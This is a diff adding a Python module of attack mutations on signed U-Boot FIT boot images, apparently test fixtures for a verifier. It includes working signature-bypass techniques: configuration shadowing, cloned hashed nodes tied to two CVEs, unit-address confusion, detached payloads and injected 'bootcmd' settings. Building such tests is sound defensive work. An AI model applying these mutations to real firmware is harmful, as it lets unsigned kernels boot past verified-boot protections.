@@ -1,0 +1,275 @@
+# SPDX-License-Identifier: MIT
+"""What an attacker does to a FIT: pure mutations of a valid one with embedded data.
+
+Whatever a function does not name stays byte for byte as it was, so that the old signature still
+covers it and the refusal is for the reason the attack is about.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import struct
+from copy import deepcopy
+from typing import TYPE_CHECKING, Final
+
+from bootseal.errors import FormatError, UsageError
+from bootseal.formats.fdt import model as fdt
+from bootseal.formats.fdt.model import Node
+from bootseal.formats.fdt.scan import Tag
+
+if TYPE_CHECKING:
+    from collections.abc import Iterable, Mapping
+
+_U32: Final = struct.Struct(">I")
+_CLONES: Final = "images"
+_VERSION_OFFSET: Final = 20
+_SIZE_OFFSET: Final = 4
+_EVIL: Final = "kernel-evil"
+# Where nothing else is loaded to.
+_EVIL_LOAD: Final = 0x60000000
+
+
+def locate(fit: bytes, path: str, name: str) -> tuple[int, int]:
+    """Return offset and size in bytes of a property's value in the file.
+
+    Raises:
+        FormatError: There is no such node or property, or it is empty.
+    """
+    node = fdt.read(fit).find(path)
+    found = None if node is None else node.properties.get(name)
+    if found is None or not len(found.value):
+        raise FormatError(f"the FIT has no property {name!r} with a value in node {path}")
+    return found.offset, len(found.value)
+
+
+def referenced(fit: bytes, configuration: str, name: str) -> str:
+    """Return the name of the image that a configuration's property names.
+
+    Raises:
+        FormatError: There is no such configuration or property.
+    """
+    node = fdt.read(fit).find(f"/configurations/{configuration}")
+    value = None if node is None else node.value(name)
+    if not value:
+        raise FormatError(f"the FIT has no configuration {configuration!r} that names a {name}")
+    return value.split(b"\0")[0].decode(errors="replace")
+
+
+def replace_payload(fit: bytes, image: str, payload: bytes, **properties: str) -> bytes:
+    """Put another payload into an image, with hashes that fit.
+
+    Args:
+        fit: The FIT.
+        image: Name of the image node.
+        payload: New data, as stored.
+        properties: String properties to set on the node, for example `compression="none"`.
+    """
+
+    def change(root: Node) -> None:
+        _fill(_find(root, f"/images/{image}"), payload, properties)
+
+    return fdt.rewrite(fit, change)
+
+
+def strip_signatures(fit: bytes) -> bytes:
+    """Remove every signature node."""
+
+    def change(root: Node) -> None:
+        for configuration in _find(root, "/configurations").children:
+            configuration.children = list(_without(configuration.children, "signature"))
+
+    return fdt.rewrite(fit, change)
+
+
+def shadow_configurations(fit: bytes, names: Iterable[str], kernel: bytes) -> bytes:
+    """Put an attacker's configuration of the same name in front of each genuine one.
+
+    Each names an added kernel and has the genuine signature node copied into it. The genuine
+    configurations and their images are still there, unchanged.
+    """
+
+    def change(root: Node) -> None:
+        configurations = _find(root, "/configurations")
+        genuine = [_find(root, f"/configurations/{name}") for name in names]
+        _add_kernel(root, genuine[0], kernel)
+        configurations.children[:0] = [_naming_it(node, node.name) for node in genuine]
+
+    return fdt.rewrite(fit, change)
+
+
+def add_configuration(fit: bytes, name: str, configuration: str, kernel: bytes) -> bytes:
+    """Add an attacker's configuration under a new name, with its own kernel, as the default."""
+
+    def change(root: Node) -> None:
+        configurations = _find(root, "/configurations")
+        genuine = _find(root, f"/configurations/{configuration}")
+        _add_kernel(root, genuine, kernel)
+        configurations.children.append(_naming_it(genuine, name))
+        configurations.properties["default"] = name.encode() + b"\0"
+
+    return fdt.rewrite(fit, change)
+
+
+def clone_images(fit: bytes, kernel: bytes) -> bytes:
+    """Let the signature cover copies of the images while the images themselves are replaced.
+
+    The signed image nodes are cloned, without data, into a new node below `/images`; the real
+    kernel is replaced; `hashed-nodes`, which is not signed, names the clones. A verifier that
+    trusts `hashed-nodes` hashes the same bytes as before and accepts (CVE-2026-46728).
+    """
+
+    def change(root: Node) -> None:
+        images, configurations = _find(root, "/images"), _find(root, "/configurations")
+        clones = [_without_data(image) for image in images.children]
+        kernels = {_kernel_of(root, conf).name for conf in configurations.children}
+        for image in images.children:
+            if image.name in kernels:
+                _fill(image, kernel, {"compression": "none"})
+        # The empty last node keeps the end tag of the new parent out of the signed bytes.
+        images.children.append(Node(_CLONES, {}, [*clones, Node("zz", {}, [])]))
+        for configuration in configurations.children:
+            for node in configuration.children:
+                if (old := node.properties.get("hashed-nodes")) is not None:
+                    new = f"/images/{_CLONES}/".encode()
+                    node.properties["hashed-nodes"] = old.replace(b"/images/", new)
+
+    return fdt.rewrite(fit, change)
+
+
+def add_unit_address(fit: bytes, configuration: str, kernel: bytes) -> bytes:
+    """Put `<kernel>@1` with another payload in front of a configuration's kernel.
+
+    libfdt finds it when asked for the name without the unit address (CVE-2021-27138).
+    """
+
+    def change(root: Node) -> None:
+        genuine = _kernel_of(root, _find(root, f"/configurations/{configuration}"))
+        evil = deepcopy(genuine)
+        evil.name = f"{genuine.name}@1"
+        _fill(evil, kernel, {"compression": "none"})
+        _find(root, "/images").children.insert(0, evil)
+
+    return fdt.rewrite(fit, change)
+
+
+def set_number(fit: bytes, path: str, name: str, value: int) -> bytes:
+    """Set a property to one big-endian 32-bit number."""
+
+    def change(root: Node) -> None:
+        _find(root, path).properties[name] = _U32.pack(value)
+
+    return fdt.rewrite(fit, change)
+
+
+def set_version(fit: bytes, version: int) -> bytes:
+    """Claim another version in the header, which no signature covers."""
+    return fit[:_VERSION_OFFSET] + _U32.pack(version) + fit[_VERSION_OFFSET + _U32.size :]
+
+
+def set_size(fit: bytes, size: int) -> bytes:
+    """Claim another total size in the header, in bytes, without adding any."""
+    return fit[:_SIZE_OFFSET] + _U32.pack(size) + fit[_SIZE_OFFSET + _U32.size :]
+
+
+def set_text(fit: bytes, path: str, name: str, text: str) -> bytes:
+    """Set a property to a string, whatever is in it."""
+
+    def change(root: Node) -> None:
+        _find(root, path).properties[name] = text.encode() + b"\0"
+
+    return fdt.rewrite(fit, change)
+
+
+def nested(depth: int) -> bytes:
+    """Make a tree in which each node holds the next."""
+    begin, end = fdt.encode_begin("n") * depth, _U32.pack(Tag.END_NODE) * depth
+    root = fdt.encode_begin("") + begin + end + _U32.pack(Tag.END_NODE)
+    return fdt.assemble(bytes(16), root + _U32.pack(Tag.END), b"description\0")
+
+
+def move_payload(fit: bytes, image: str, position: int) -> bytes:
+    """Take an image's payload out of the tree and lay it at an absolute position behind it.
+
+    `data-position` and `data-size` are not signed, and the hash of the payload still fits.
+
+    Args:
+        fit: The FIT.
+        image: Name of the image node.
+        position: Bytes from the start of the FIT.
+
+    Raises:
+        UsageError: The position lies inside the tree.
+    """
+    payload = _find(fdt.parse(fit), f"/images/{image}").properties["data"]
+    tree = fdt.rewrite(fit, lambda root: _detach(root, image, position))
+    if len(tree) > position:
+        raise UsageError(f"position {position:#x} lies in the tree of {len(tree):#x} bytes")
+    return tree.ljust(position, b"\0") + payload
+
+
+def offer_configuration(dtb: bytes, options: Mapping[str, str]) -> bytes:
+    """Make a control device tree that asks U-Boot for other settings and holds no keys.
+
+    Args:
+        dtb: A device tree of the machine.
+        options: Properties of `/config`, such as `bootcmd`.
+    """
+
+    def change(root: Node) -> None:
+        root.children = list(_without(root.children, "signature"))
+        properties = {name: value.encode() + b"\0" for name, value in options.items()}
+        root.children.insert(0, Node("config", properties, []))
+
+    return fdt.rewrite(dtb, change)
+
+
+def _find(root: Node, path: str) -> Node:
+    node = root.find(path)
+    if node is None:
+        raise FormatError(f"the FIT has no node {path}")
+    return node
+
+
+def _kernel_of(root: Node, configuration: Node) -> Node:
+    name = configuration.properties.get("kernel", b"").split(b"\0")[0].decode(errors="replace")
+    return _find(root, f"/images/{name}")
+
+
+def _add_kernel(root: Node, configuration: Node, kernel: bytes) -> None:
+    evil = deepcopy(_kernel_of(root, configuration))
+    evil.name = _EVIL
+    evil.properties |= dict.fromkeys(("load", "entry"), _U32.pack(_EVIL_LOAD))
+    _fill(evil, kernel, {"compression": "none"})
+    _find(root, "/images").children.append(evil)
+
+
+def _naming_it(configuration: Node, name: str) -> Node:
+    copy = deepcopy(configuration)
+    copy.name = name
+    copy.properties["kernel"] = f"{_EVIL}\0".encode()
+    return copy
+
+
+def _without(nodes: Iterable[Node], prefix: str) -> Iterable[Node]:
+    return (node for node in nodes if not node.name.startswith(prefix))
+
+
+def _without_data(node: Node) -> Node:
+    properties = {name: value for name, value in node.properties.items() if name != "data"}
+    return Node(node.name, properties, deepcopy(node.children))
+
+
+def _fill(node: Node, payload: bytes, properties: Mapping[str, str]) -> None:
+    node.properties["data"] = payload
+    for name, value in properties.items():
+        node.properties[name] = value.encode() + b"\0"
+    for child in node.children:
+        if child.name.startswith("hash"):
+            algorithm = child.properties["algo"].rstrip(b"\0").decode()
+            child.properties["value"] = hashlib.new(algorithm, payload).digest()
+
+
+def _detach(root: Node, image: str, position: int) -> None:
+    properties = _find(root, f"/images/{image}").properties
+    properties["data-size"] = _U32.pack(len(properties.pop("data")))
+    properties["data-position"] = _U32.pack(position)
